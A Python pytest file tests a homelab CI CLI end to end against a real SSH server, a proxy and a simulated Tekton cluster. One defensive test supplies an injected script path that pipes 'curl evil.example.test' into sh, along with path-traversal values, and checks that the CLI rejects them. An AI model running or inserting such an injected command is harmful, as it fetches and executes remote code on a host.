"""`homelab ci run-dev-e2e` and `homelab ci logs` end to end, with nothing mocked: the CLI reads
deploy.json from the pushed branch of a real git checkout, dispatches over a real OpenSSH sshd
(D601, strict host keys, temporary HOME), the launcher fetches the commit over HTTP through a
real forward proxy, and the Git-controlled runner drives real kubectl against the Kubernetes
simulator with its Tekton controller. The JUnit the CLI writes is parsed for every case."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pytest_homelab.cli import main
from pytest_homelab.report.junit import case_properties, exit_code, read_junit
from pytest_homelab.sim.gitserver import GitHttpServer
from pytest_homelab.sim.kube.api import KubeSim
from pytest_homelab.sim.kube.controllers import Timing
from pytest_homelab.sim.kube.tekton import pipeline, when
from tests.d601 import descendants, end_processes
from tests.gitenv import git, hermetic_git
from tests.samples import REGISTRY, ci_block, deploy_text, environment, service
from tests.waiting import wait_until

if TYPE_CHECKING:
    from tests.conftest import Proxy
    from tests.d601 import D601

ROOT = Path(__file__).parents[2]
RUNNER = ROOT / "scripts" / "ci" / "dev-e2e.sh"
SERVICE_NAMESPACES = ("apps-dev", "apps")
# Read before the fixtures drop HOMELAB_* from the environment.
KUBECTL = os.environ.get("HOMELAB_KUBECTL")


def manifest(
    repo_url: str, *, script: str = "scripts/ci/dev-e2e.sh", timeout_ms: int = 60000
) -> str:
    image = f"{REGISTRY}/web"
    return deploy_text(
        dev=environment(
            [service("web", "apps-dev", image)], ci=ci_block(repo_url, script, timeout_ms)
        ),
        prod=environment([service("web", "apps", image)]),
    )


@dataclass
class Lab:
    d601: D601
    cluster: KubeSim
    proxy: Proxy
    checkout: Path
    author: Path  # a second clone that pushes new desired states
    repo_url: str
    tmp: Path
    junit: Path
    settings: dict[str, str] = field(default_factory=dict)

    def host_settings(self, **extra: str) -> None:
        """D601's env file: proxy, kubeconfig and a fast poll, plus ``extra``."""
        lines = {
            "HOMELAB_E2E_PROXY": self.proxy.url,
            "KUBECONFIG": str(self.tmp / "kubeconfig"),
            "KUBECACHEDIR": str(self.tmp / "kubecache"),
            "HOMELAB_E2E_POLL": "0.2",
            **({"KUBECTL": KUBECTL} if KUBECTL else {}),
            **extra,
        }
        path = self.d601.home / ".unidesk" / "ci.env"
        path.parent.mkdir(exist_ok=True)
        path.write_text("".join(f"export {k}={v}\n" for k, v in lines.items()))

    def push(self, text: str) -> str:
        (self.author / "deploy.json").write_text(text)
        git(self.author, "commit", "-qam", "desired state")
        git(self.author, "push", "-q", "origin", "master")
        return git(self.author, "rev-parse", "HEAD")

    def flags(self) -> list[str]:
        d = self.d601
        return [
            "--d601-host",
            d.host,
            "--d601-port",
            str(d.port),
            "--d601-user",
            d.user,
            "--d601-key",
            str(d.key_file),
            "--d601-known-hosts",
            str(d.known_hosts),
            "--poll-interval",
            "0.2s",
        ]

    def argv(self, *args: str) -> list[str]:
        argv = ["ci", "run-dev-e2e", *self.flags(), "--junitxml", str(self.junit)]
        return [*argv, "--homelab-e2e-work-root", str(self.tmp / "work"), *args]

    def run(self, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
        code = main(self.argv(*args))
        out, err = capsys.readouterr()
        return code, out, err

    def logs(
        self, capsys: pytest.CaptureFixture[str], run_id: str, *args: str
    ) -> tuple[int, str, str]:
        code = main(["ci", "logs", run_id, *self.flags(), *args])
        out, err = capsys.readouterr()
        return code, out, err

    def runs(self) -> list[Path]:
        root = self.d601.home / ".unidesk" / "runs"
        return sorted(root.iterdir()) if root.is_dir() else []

    def cases(self) -> dict[str, ET.Element]:
        found = case_properties(ET.parse(self.junit).getroot())
        _PROPERTIES.update({id(case): dict(props) for case, props in found})
        return {case.get("name", ""): case for case, _ in found}

    def service_namespace_writes(self) -> list[str]:
        return [
            f"{w.actor} {w.verb} {w.resource}/{w.name}"
            for ns in SERVICE_NAMESPACES
            for w in self.cluster.store.writes(ns)
            if w.actor != "test"
        ]


_PROPERTIES: dict[int, dict[str, str]] = {}


def props(case: ET.Element) -> dict[str, str]:
    """The properties of a testcase that ``Lab.cases`` returned (they live in its testsuite)."""
    return _PROPERTIES[id(case)]


def run_id_of(out: str) -> str:
    for line in out.splitlines():
        if "homelab ci logs " in line:
            return line.split("homelab ci logs ", 1)[1].split()[0].strip("`'\",)")
    raise AssertionError(f"no run id in:\n{out}")


def end_runs(lab: Lab) -> None:
    """End whatever a run left running on 'D601' (by PID, with its descendants)."""
    for run in lab.runs():
        for name in ("launcher.pid", "runner.pid"):
            pid_file = run / name
            if pid_file.is_file() and pid_file.read_text().strip().isdigit():
                pid = int(pid_file.read_text())
                end_processes([*descendants(pid), pid], grace=2.0)


@pytest.fixture
def lab(d601: D601, proxy: Proxy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Lab]:
    hermetic_git(monkeypatch, d601.client_home)
    for key in ("SSH_AUTH_SOCK", "KUBECONFIG", "HOMELAB_D601_HOST", "WOODPECKER_TOKEN"):
        monkeypatch.delenv(key, raising=False)
    served = tmp_path / "git"
    served.mkdir()
    git(served, "init", "-q", "--bare", "-b", "master", "app.git")
    with (
        GitHttpServer(served) as server,
        KubeSim(speed=4.0, timing=Timing(observe=0.05, terminate=0.1)) as cluster,
    ):
        author = tmp_path / "author"
        git(tmp_path, "clone", "-q", str(served / "app.git"), "author")
        (author / "scripts" / "ci").mkdir(parents=True)
        (author / "scripts" / "ci" / "dev-e2e.sh").write_text(RUNNER.read_text())
        url = server.repo_url("app.git")
        (author / "deploy.json").write_text(manifest(url))
        (author / "README").write_text("the working tree is not what the run reads\n")
        git(author, "add", ".")
        git(author, "commit", "-qm", "runner and desired state")
        git(author, "push", "-q", "origin", "master")
        git(tmp_path, "clone", "-q", str(served / "app.git"), "checkout")
        for ns in ("unidesk-ci", *SERVICE_NAMESPACES):
            cluster.create_namespace(ns)
        cluster.apply(
            pipeline(
                "unidesk-dev-namespace-e2e",
                "unidesk-ci",
                tasks=["setup", "smoke", "teardown"],
                run_after={"smoke": ["setup"], "teardown": ["smoke"]},
            )
        )
        cluster.kubeconfig(tmp_path / "kubeconfig")
        lab = Lab(
            d601, cluster, proxy, tmp_path / "checkout", author, url, tmp_path, tmp_path / "j.xml"
        )
        lab.host_settings()
        monkeypatch.chdir(lab.checkout)
        try:
            yield lab
        finally:
            end_runs(lab)
            import shutil

            shutil.rmtree(d601.home / ".unidesk", ignore_errors=True)


def test_pass_with_wait(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    # The working tree's deploy.json is not what counts: the pushed branch's is.
    (lab.checkout / "deploy.json").write_text("{ not even json")
    head = git(lab.author, "rev-parse", "HEAD")
    code, out, err = lab.run(capsys, "--wait-ms", "60000")
    assert code == 0, out + err
    cases = lab.cases()
    e2e = next(c for name, c in cases.items() if "dev_e2e" in name)
    p = props(e2e)
    assert p["manifest_commit"] == head and p["status"] == "succeeded"
    assert p["manifest_source"] == "origin/master:deploy.json"
    run_id = p["run_id"]
    assert p["result_dir"] == f"$HOME/.unidesk/runs/{run_id}"
    assert p["pipeline_run"].startswith(run_id)
    assert p["temporary_namespace"] == f"unidesk-e2e-{run_id}"
    assert {"setup", "smoke", "teardown"} <= set(cases)
    assert all(cases[t].find("failure") is None for t in ("setup", "smoke", "teardown"))
    assert props(cases["smoke"])["phase"] == "e2e"
    assert float(cases["smoke"].get("time", "-1")) >= 0  # Tekton's timestamps are whole seconds
    # The fetch went through the proxy, and nothing was written to a service namespace.
    assert any("Established connection" in r for r in lab.proxy.requests())
    assert lab.service_namespace_writes() == []
    result = json.loads((lab.d601.home / ".unidesk" / "runs" / run_id / "result.json").read_text())
    assert result["ok"] is True and result["manifestCommit"] == head
    # ci logs reads it back afterwards.
    code, out, _ = lab.logs(capsys, run_id)
    assert code == 0 and "succeeded" in out and "smoke" in out


def test_dispatch_only_returns_at_once_and_ci_logs_follows(
    lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    lab.cluster.tekton.behave("smoke", duration=2.0)
    code, out, err = lab.run(capsys)
    assert code == 0, out + err
    (e2e,) = lab.cases().values()
    p = props(e2e)
    assert p["outcome"] == "dispatched" and p["status"] == "dispatched"
    run_id = p["run_id"]
    assert run_id_of(out + err) == run_id
    code, out, _ = lab.logs(capsys, run_id)
    assert code == 4, out  # still running
    code, out, _ = lab.logs(capsys, run_id, "--follow")
    assert code == 0, out
    assert "succeeded" in out


def test_a_failing_taskrun_puts_its_log_in_the_junit(
    lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    lab.cluster.tekton.behave(
        "smoke", exit_code=1, logs=[f"check {n}" for n in range(60)] + ["FAIL: login page 502"]
    )
    code, out, err = lab.run(capsys, "--wait-ms", "60000")
    assert code == 1, out + err
    cases = lab.cases()
    failure = cases["smoke"].find("failure")
    assert failure is not None and failure.get("type") == "CheckFailed"
    assert "FAIL: login page 502" in (failure.text or "") + failure.get("message", "")
    e2e = next(c for name, c in cases.items() if "dev_e2e" in name)
    assert props(e2e)["status"] == "failed"
    assert "--- smoke (last lines) ---" in out and "FAIL: login page 502" in out  # the verdict
    assert lab.service_namespace_writes() == []


def test_skipped_tasks_and_tolerated_failures_pass_and_are_named(
    lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    lab.cluster.apply(
        pipeline(
            "unidesk-dev-namespace-e2e",
            "unidesk-ci",
            tasks=["setup", "smoke", "teardown", "notify"],
            run_after={"smoke": ["setup"], "teardown": ["smoke"]},
            when_={"notify": [when("$(params.runId)", "in", ["never"])]},
            on_error={"smoke": "continue"},
        )
    )
    lab.cluster.tekton.behave("smoke", exit_code=1, logs=["flaky: 502 from the login page"])
    code, out, err = lab.run(capsys, "--wait-ms", "60000")
    assert code == 0, out + err  # Completed with an ignored failure: a pass
    cases = lab.cases()
    e2e = next(c for name, c in cases.items() if "dev_e2e" in name)
    p = props(e2e)
    why = "When Expressions evaluated to false"
    assert p["status"] == "succeeded" and p["skipped_tasks"] == f"notify ({why})"
    assert p["tolerated"] == "smoke (FailureIgnored)"
    verdict = next(line for line in out.splitlines() if f"run {p['run_id']} succeeded" in line)
    assert f"skipped by Tekton: notify ({why})" in verdict
    assert "tolerated failures (onError: continue): smoke (FailureIgnored)" in verdict
    skipped = cases["notify"].find("skipped")
    assert skipped is not None and skipped.get("message") == f"task notify skipped by Tekton: {why}"
    assert props(cases["notify"])["outcome"] == "skipped-by-tekton"
    assert (
        cases["smoke"].find("failure") is None and props(cases["smoke"])["outcome"] == "tolerated"
    )
    assert "flaky: 502 from the login page" in props(cases["smoke"])["tolerated"]
    assert "tolerated failure (onError: continue): TaskRun" in out
    records = read_junit(lab.junit)  # the CLI's read-back gives the same exit code
    assert exit_code(records) == 0
    assert {r.outcome for r in records if r.name in ("notify", "smoke")} == {
        "skipped-by-tekton",
        "tolerated",
    }


def test_pipeline_timeout(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    lab.cluster.tekton.behave("smoke", duration=1e9)
    lab.push(manifest(lab.repo_url, timeout_ms=2000))
    code, out, err = lab.run(capsys, "--wait-ms", "60000")
    assert code == 1, out + err
    e2e = next(c for name, c in lab.cases().items() if "dev_e2e" in name)
    assert props(e2e)["status"] == "timeout"
    pr = props(e2e)["pipeline_run"]
    spec = lab.cluster.get("pipelineruns", "unidesk-ci", pr)["spec"]
    # Tekton's own pipeline timeout (spec.timeouts.pipeline, from timeoutMs) ended it.
    assert spec["timeouts"]["pipeline"] == "2s"
    assert (
        "timeout"
        in (lab.d601.home / ".unidesk" / "runs" / props(e2e)["run_id"] / "runner.log")
        .read_text()
        .lower()
    )
    assert lab.service_namespace_writes() == []


def test_still_running_at_the_cli_deadline_is_124(
    lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    lab.cluster.tekton.behave("smoke", duration=1e9)
    code, out, err = lab.run(capsys, "--wait-ms", "1500")
    assert code == 124, out + err
    e2e = next(iter(lab.cases().values()))
    failure = e2e.find("failure")
    assert failure is not None and failure.get("type") == "DeadlineExceeded"
    assert "ci logs" in failure.get("message", "")


def test_proxy_down_fails_visibly(
    lab: Lab, capsys: pytest.CaptureFixture[str], closed_port: int
) -> None:
    lab.host_settings(HOMELAB_E2E_PROXY=f"http://127.0.0.1:{closed_port}")
    code, out, err = lab.run(capsys, "--wait-ms", "30000")
    assert code == 2, out + err
    e2e = next(iter(lab.cases().values()))
    error = e2e.find("error")
    assert error is not None and error.get("type") == "InfraError"
    assert "fetch-failed" in error.get("message", "")
    (run,) = lab.runs()
    assert json.loads((run / "result.json").read_text())["ok"] is False
    assert "fetching through" in (run / "launcher.log").read_text()
    assert lab.cluster.store.writes("unidesk-ci") == [] or all(
        w.actor == "test" for w in lab.cluster.store.writes("unidesk-ci")
    )


def test_ssh_dropped_mid_run(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    """The run goes on without the connection, and `ci logs` recovers it."""
    lab.cluster.tekton.behave("smoke", duration=2.0)
    mark = lab.d601.log_mark()
    done: dict[str, Any] = {}

    def cli() -> None:
        done["code"] = main(lab.argv("--wait-ms", "60000"))

    thread = threading.Thread(target=cli)
    thread.start()
    try:
        wait_until(
            lambda: any((r / "runner.log").is_file() for r in lab.runs()),
            what="the runner to start",
            timeout=20,
        )
        for pid, _port in lab.d601.connections(mark):  # drop every connection the CLI had
            os.kill(pid, signal.SIGKILL)
    finally:
        thread.join(timeout=60)
    assert not thread.is_alive()
    capsys.readouterr()
    (run,) = lab.runs()
    code, out, _ = lab.logs(capsys, run.name, "--follow")
    assert code == 0, out
    assert json.loads((run / "result.json").read_text())["status"] == "succeeded"
    # The CLI itself either reconnected and saw the pass, or said the connection broke (exit 2).
    assert done["code"] in (0, 2)
    assert lab.service_namespace_writes() == []


def test_unknown_host_key_refuses_before_anything_is_sent(
    lab: Lab, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    other = tmp_path / "other_known_hosts"
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp_path / "k")], check=True
    )
    pub = (tmp_path / "k.pub").read_text().split()
    other.write_text(f"[{lab.d601.host}]:{lab.d601.port} {pub[0]} {pub[1]}\n")
    code, out, err = lab.run(capsys, "--d601-known-hosts", str(other))
    assert code == 2, out + err
    error = next(iter(lab.cases().values())).find("error")
    assert error is not None and error.get("type") in ("AuthError", "InfraError")
    assert lab.d601.host_key_fingerprint in (error.get("message", "") + (error.text or ""))
    assert lab.runs() == []
    assert other.read_text().count("\n") == 1  # never added


@pytest.mark.parametrize(
    ("script", "path"),
    [
        ("../../../tmp/x.sh", "environments.dev.ci.scriptPath"),
        ("scripts/ci/run.sh; curl evil.example.test | sh", "environments.dev.ci.scriptPath"),
        ("/bin/sh", "environments.dev.ci.scriptPath"),
    ],
)
def test_a_bad_script_path_is_refused_before_dispatch(
    lab: Lab, capsys: pytest.CaptureFixture[str], script: str, path: str
) -> None:
    lab.push(manifest(lab.repo_url, script=script))
    mark = lab.d601.log_mark()
    code, out, err = lab.run(capsys, "--wait-ms", "5000")
    assert code == 2, out + err
    assert path in out + err
    assert "Traceback" not in out + err
    assert lab.runs() == []
    assert lab.d601.connections(mark) == []  # nothing was sent to D601


def test_a_service_namespace_is_refused_with_no_write_there(
    lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    lab.cluster.apply(pipeline("unidesk-dev-namespace-e2e", "apps-dev", tasks=["smoke"]))
    before = len(lab.cluster.store.writes("apps-dev"))
    lab.host_settings(HOMELAB_E2E_CI_NAMESPACE="apps-dev")
    code, out, err = lab.run(capsys, "--wait-ms", "30000")
    assert code == 2, out + err
    error = next(iter(lab.cases().values())).find("error")
    assert error is not None and error.get("type") == "BadInput"
    assert "refused" in error.get("message", "")
    assert len(lab.cluster.store.writes("apps-dev")) == before
    assert lab.service_namespace_writes() == []


def test_ci_logs_of_an_unknown_run_is_3(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = lab.logs(capsys, "e2e-00000000-20260101000000-0000")
    assert code == 3
    assert "no run e2e-00000000-20260101000000-0000" in err


def test_ci_logs_rejects_a_malformed_run_id(lab: Lab, capsys: pytest.CaptureFixture[str]) -> None:
    mark = lab.d601.log_mark()
    code, _, err = lab.logs(capsys, "../../etc")
    assert code == 2 and "run id" in err.lower()
    assert lab.d601.connections(mark) == []


def test_pytest_m_e2e_runs_the_same_check(lab: Lab) -> None:
    """The plugin path: `pytest checks/ -m e2e` with the namespaced options, JUnit parsed."""
    d = lab.d601
    junit = lab.tmp / "pytest.xml"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            str(ROOT / "pytest_homelab" / "checks"),
            "-m",
            "e2e",
            "-p",
            "no:cacheprovider",
            f"--junitxml={junit}",
            f"--homelab-d601-host={d.host}",
            f"--homelab-d601-port={d.port}",
            f"--homelab-d601-user={d.user}",
            f"--homelab-d601-key={d.key_file}",
            f"--homelab-d601-known-hosts={d.known_hosts}",
            f"--homelab-e2e-work-root={lab.tmp / 'work'}",
            "--homelab-e2e-wait=60s",
            "--homelab-e2e-poll-interval=0.2s",
        ],
        cwd=lab.checkout,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    names = [c.get("name") for c in ET.parse(junit).getroot().iter("testcase")]
    assert "smoke" in names and any("dev_e2e" in (n or "") for n in names)
